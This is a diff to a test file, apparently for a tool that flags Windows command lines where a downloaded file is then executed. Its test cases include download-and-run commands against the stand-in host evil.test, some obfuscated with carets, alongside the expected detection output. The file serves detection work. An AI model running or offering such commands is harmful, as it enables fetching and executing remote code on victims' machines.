@@ -19,6 +19,7 @@ describe("a download that is run is a flow", () => {
       "3: network evil.test > execute file a.exe",
     ],
     ["c^u^r^l -o x.bat http://evil.test/x && x.bat", "1: network evil.test > execute file x.bat"],
+    ["curl -o x.bat http://evil.test/x && x.bat^", "1: network evil.test > execute file x.bat"],
     [
       "bitsadmin /transfer j http://evil.test/a.exe C:\\t\\a.exe\nC:\\t\\a.exe",
       "2: network evil.test > execute file a.exe",
